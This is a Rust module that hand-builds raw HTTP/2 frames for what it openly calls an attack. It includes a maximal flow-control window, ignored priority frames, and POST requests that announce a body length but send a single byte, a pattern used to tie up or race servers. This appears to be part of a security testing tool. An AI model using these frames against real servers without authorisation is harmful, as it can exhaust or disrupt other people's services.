//! The few frames of HTTP/2 that an attack needs (RFC 9113).

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The largest window.
const WINDOW: u32 = i32::MAX as u32;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}

/// The start of a connection whose client lets the server send as much as there is.
pub(crate) fn begin() -> Vec<u8> {
    let initial_window = [&4_u16.to_be_bytes()[..], &WINDOW.to_be_bytes()].concat();
    let window = (WINDOW - 65_535).to_be_bytes();
    [PREFACE, &frame(4, 0, 0, &initial_window), &frame(8, 0, 0, &window)].concat()
}

/// A frame that changes nothing: the priority of a stream, which is ignored (RFC 9113 §5.3.2).
pub(crate) fn ignored() -> Vec<u8> {
    frame(2, 0, 1, &[0, 0, 0, 0, 0])
}

/// A field whose name is at `index` of the static table, not indexed (RFC 7541 §6.2.2).
fn field(index: u8, value: &str) -> Vec<u8> {
    [&[index, value.len() as u8], value.as_bytes()].concat()
}

/// The `nth` request: a GET, complete.
pub(crate) fn get(nth: u32, path: &str) -> Vec<u8> {
    // `:method: GET`, `:scheme: http`.
    let block = [vec![0x82, 0x86], field(4, path), field(1, "a")].concat();
    frame(1, 0x5, nth * 2 + 1, &block)
}

/// The `nth` request: a POST that announces `length` bytes and sends one.
pub(crate) fn post(nth: u32, path: &str, length: &str) -> Vec<u8> {
    // `:method: POST`; content-length is 28 and content-type 31, which takes a second byte above 14.
    let named = |index: u8, value: &str| [vec![0x0f], field(index - 15, value)].concat();
    let fields = [named(28, length), named(31, "text/plain")].concat();
    let block = [vec![0x83, 0x86], field(4, path), field(1, "a"), fields].concat();
    let stream = nth * 2 + 1;
    [frame(1, 0x4, stream, &block), frame(0, 0, stream, b"x")].concat()
}
